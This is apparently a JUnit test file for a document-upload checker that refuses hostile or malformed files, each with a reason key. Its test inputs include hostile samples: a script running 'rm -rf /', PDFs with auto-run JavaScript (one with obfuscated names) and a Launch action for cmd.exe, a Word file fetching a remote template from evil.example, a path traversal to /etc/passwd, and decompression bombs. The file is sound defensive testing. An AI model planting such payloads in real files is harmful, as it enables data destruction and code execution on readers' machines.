package fr.maillon.intake.checking;

import static fr.maillon.intake.checking.MadeFiles.ascii;
import static fr.maillon.intake.checking.MadeFiles.docx;
import static fr.maillon.intake.checking.MadeFiles.docxWith;
import static fr.maillon.intake.checking.MadeFiles.joined;
import static fr.maillon.intake.checking.MadeFiles.packedStream;
import static fr.maillon.intake.checking.MadeFiles.pdf;
import static fr.maillon.intake.checking.MadeFiles.pdfWith;
import static fr.maillon.intake.checking.MadeFiles.picture;
import static fr.maillon.intake.checking.MadeFiles.program;
import static fr.maillon.intake.checking.MadeFiles.slice;
import static fr.maillon.intake.checking.MadeFiles.zip;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import fr.maillon.intake.FileKind;
import fr.maillon.shared.Refused;
import java.nio.charset.StandardCharsets;
import java.util.Map;
import java.util.stream.Stream;
import org.assertj.core.api.Assertions;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Files made to harm, or sent by mistake, are refused, each with the reason. Covers S-FILE-01. */
class HostileFilesTest {

    private static final String UNKNOWN = "attachFile.unknownKind";
    private static final String OTHER = "attachFile.notWhatItSays";
    private static final String DAMAGED = "attachFile.damaged";
    private static final String BOMB = "attachFile.bomb";
    private static final String ACTIVE = "attachFile.active";
    private static final String CARRIES = "attachFile.carriesFiles";
    private static final String LOCKED = "attachFile.locked";
    private static final String HTML = "<html><script>alert(1)</script></html>";

    private final ContentCheck check = new ContentCheck();

    static Stream<Arguments> hostile() {
        return Stream.of(whatTheyAreNot(), pictures(), pdfs(), officeFiles()).flatMap(some -> some);
    }

    private static Stream<Arguments> whatTheyAreNot() {
        return Stream.of(
                arguments("nothing in it", "a.pdf", "", new byte[0], "attachFile.empty"),
                arguments("one byte too large", "a.pdf", "", new byte[10 * 1024 * 1024 + 1], "attachFile.tooLarge"),
                arguments("a program", "a.exe", "", program(), UNKNOWN),
                arguments("a program named .pdf", "devis.pdf", "application/pdf", program(), OTHER),
                arguments("a program with two extensions", "devis.pdf.exe", "", program(), UNKNOWN),
                arguments("a program named .docx", "a.docx", "", program(), OTHER),
                arguments("a program named .jpg", "a.jpg", "image/jpeg", program(), OTHER),
                arguments("no extension", "devis", "application/pdf", pdf(), UNKNOWN),
                arguments("a page named .png", "a.png", "image/png", ascii(HTML), OTHER),
                arguments("a drawing that runs scripts", "a.svg", "", ascii("<svg onload=\"x()\"/>"), UNKNOWN),
                arguments("a drawing named .png", "a.png", "", ascii("<svg xmlns=\"x\" onload=\"x()\"/>"), OTHER),
                arguments("a script named .pdf", "a.pdf", "", ascii("#!/bin/sh\nrm -rf /\n"), OTHER),
                arguments("declared as a page", "a.pdf", "text/html", pdf(), OTHER),
                arguments("declared as another picture", "a.png", "image/jpeg", picture("png", 9, 9), OTHER),
                arguments("a JPEG named .png", "a.png", "", picture("jpeg", 9, 9), OTHER),
                arguments("a PNG named .pdf", "a.pdf", "", picture("png", 9, 9), OTHER),
                arguments("a GIF named .jpg", "a.jpg", "", picture("gif", 9, 9), OTHER),
                arguments("a PDF named .odt", "a.odt", "", pdf(), OTHER));
    }

    private static Stream<Arguments> pictures() {
        var png = picture("png", 300, 300);
        return Stream.of(
                arguments("2,500 megapixels in some bytes", "a.png", "", MadeFiles.hugePng(50_000, 50_000), BOMB),
                arguments("just above 50 megapixels", "a.png", "", MadeFiles.hugePng(10_000, 5_001), BOMB),
                arguments("more pixels than an int counts", "a.png", "", MadeFiles.hugePng(99_999, 99_999), BOMB),
                arguments("half a picture", "a.png", "", slice(png, 0, png.length / 2), DAMAGED),
                arguments("the beginning of a JPEG", "a.jpg", "", slice(picture("jpeg", 9, 9), 0, 20), DAMAGED));
    }

    private static Stream<Arguments> pdfs() {
        var script = "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>";
        return Stream.of(
                arguments("a PDF that runs a script", "a.pdf", "", pdfWith(script), ACTIVE),
                arguments(
                        "the same with its names in disguise",
                        "a.pdf",
                        "",
                        pdfWith("/OpenAction << /S /J#61vaScript /#4aS (app.alert\\(1\\)) >>"),
                        ACTIVE),
                arguments(
                        "a script in an object of its own",
                        "a.pdf",
                        "",
                        pdfWith("/AA << /WC 4 0 R >>", "<< /S /JavaScript /JS 5 0 R >>", "(x)"),
                        ACTIVE),
                arguments(
                        "a PDF that starts a program",
                        "a.pdf",
                        "",
                        pdfWith("/OpenAction << /S /Launch /F (cmd.exe) >>"),
                        ACTIVE),
                arguments("a form with its own program", "a.pdf", "", pdfWith("/AcroForm << /XFA (x) >>"), ACTIVE),
                arguments(
                        "a file within the PDF",
                        "a.pdf",
                        "",
                        pdfWith("/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>", "<< /F (a.exe) >>"),
                        CARRIES),
                arguments(
                        "a stream that unpacks to 200 MB", "a.pdf", "", pdfWith("", packedStream("ObjStm", 200)), BOMB),
                arguments("a password to open it", "a.pdf", "", MadeFiles.lockedPdf("secret"), LOCKED),
                arguments("half a PDF", "a.pdf", "", slice(pdf(), 0, 100), DAMAGED),
                arguments("only the beginning of a PDF", "a.pdf", "", ascii("%PDF-1.7\n" + HTML), DAMAGED),
                arguments("a page before the PDF", "a.pdf", "", joined(ascii(HTML), pdf()), OTHER));
    }

    private static Stream<Arguments> officeFiles() {
        var macro = MadeFiles.docxEntries();
        macro.put(
                "[Content_Types].xml",
                ascii("<Override ContentType=\"application/vnd.ms-word.document" + ".macroEnabled.main+xml\"/>"));
        var utf16 = MadeFiles.docxEntries();
        utf16.put(
                "[Content_Types].xml",
                "<Types ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/>"
                        .getBytes(StandardCharsets.UTF_16));
        var many = MadeFiles.docxEntries();
        for (int i = 0; i < 1_000; i++) {
            many.put("word/media/" + i, new byte[1]);
        }
        var encrypted = MadeFiles.odtEntries();
        encrypted.put("META-INF/manifest.xml", ascii("<manifest:encryption-data/>"));
        var basic = MadeFiles.odtEntries();
        basic.put("Basic/Standard/Module1.xml", ascii("<script/>"));
        return Stream.of(
                arguments("any ZIP named .docx", "a.docx", "", zip(Map.of("a.txt", ascii("a"))), OTHER),
                arguments("a workbook named .docx", "a.docx", "", zip(MadeFiles.xlsxEntries()), OTHER),
                arguments("a text named .xlsx", "a.xlsx", "", docx(), OTHER),
                arguments("a ZIP named .odt", "a.odt", "", docx(), OTHER),
                arguments(
                        "100 MB and more out of some KB",
                        "a.docx",
                        "",
                        docxWith("word/a.xml", new byte[101 << 20]),
                        BOMB),
                arguments("1,003 pieces", "a.docx", "", zip(many), BOMB),
                arguments("a text with macros named .docx", "a.docx", "", zip(macro), ACTIVE),
                arguments("the same in UTF-16", "a.docx", "", zip(utf16), ACTIVE),
                arguments("macros", "a.docx", "", docxWith("word/vbaProject.bin", new byte[9]), ACTIVE),
                arguments("a text with macros", "a.docm", "", docx(), UNKNOWN),
                arguments("macros of LibreOffice", "a.odt", "", zip(basic), ACTIVE),
                arguments(
                        "a control that runs", "a.docx", "", docxWith("word/activeX/activeX1.xml", ascii("x")), ACTIVE),
                arguments(
                        "a template from elsewhere",
                        "a.docx",
                        "",
                        docxWith(
                                "word/_rels/settings.xml.rels",
                                ascii("<Relationship Type=\"x/attachedTemplate\" Target=\"http://evil.example/t.dotm\""
                                        + " TargetMode=\"External\"/>")),
                        ACTIVE),
                arguments("a program inside", "a.docx", "", docxWith("word/media/image1.png", program()), CARRIES),
                arguments("a program by its name", "a.docx", "", docxWith("word/a.vbs", ascii("x")), CARRIES),
                arguments("another ZIP inside", "a.docx", "", docxWith("word/embeddings/a.xlsx", docx()), CARRIES),
                arguments(
                        "an object of another program",
                        "a.docx",
                        "",
                        docxWith(
                                "word/embeddings/oleObject1.bin",
                                ascii("\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1")),
                        CARRIES),
                arguments("a piece that leads out", "a.docx", "", docxWith("../../etc/passwd", ascii("x")), DAMAGED),
                arguments("a password", "a.odt", "", zip(encrypted), LOCKED),
                arguments("half a text", "a.docx", "", slice(docx(), 0, docx().length / 2), DAMAGED),
                arguments("two texts in one file", "a.docx", "", joined(docx(), docx()), DAMAGED));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("hostile")
    void it_is_refused_and_told_why(String what, String name, String declared, byte[] content, String reason) {
        var refused = Assertions.catchThrowable(() -> check.check(name, declared, content));

        assertThat(refused).isInstanceOfSatisfying(Refused.class, why -> {
            assertThat(why.messageKey()).isEqualTo(reason);
            assertThat(why.arguments()).first().isEqualTo(name);
        });
    }

    static Stream<Arguments> harmless() {
        return Stream.of(
                arguments("a.pdf", "application/pdf", pdf(), FileKind.PDF),
                arguments("A.PDF", "", pdf(), FileKind.PDF),
                arguments("a.pdf", "application/octet-stream", MadeFiles.lockedPdf(""), FileKind.PDF),
                arguments("a.pdf", "", pdfWith("", packedStream("XObject", 20)), FileKind.PDF),
                arguments("a.png", "image/png", picture("png", 30, 30), FileKind.PNG),
                arguments("a.jpeg", "image/pjpeg", picture("jpeg", 30, 30), FileKind.JPEG),
                arguments("a.docx", FileKind.DOCX.mediaType(), docx(), FileKind.DOCX),
                arguments("a.xlsx", "", zip(MadeFiles.xlsxEntries()), FileKind.XLSX),
                arguments("a.odt", FileKind.ODT.mediaType(), zip(MadeFiles.odtEntries()), FileKind.ODT));
    }

    @ParameterizedTest(name = "{0} {1}")
    @MethodSource("harmless")
    void what_people_usually_send_is_kept(String name, String declared, byte[] content, FileKind kind) {
        var kept = check.check(name, declared, content);

        assertThat(kept.kind()).isEqualTo(kind);
        if (kind != FileKind.PNG && kind != FileKind.JPEG) {
            assertThat(kept.content()).isEqualTo(content);
        }
    }
}
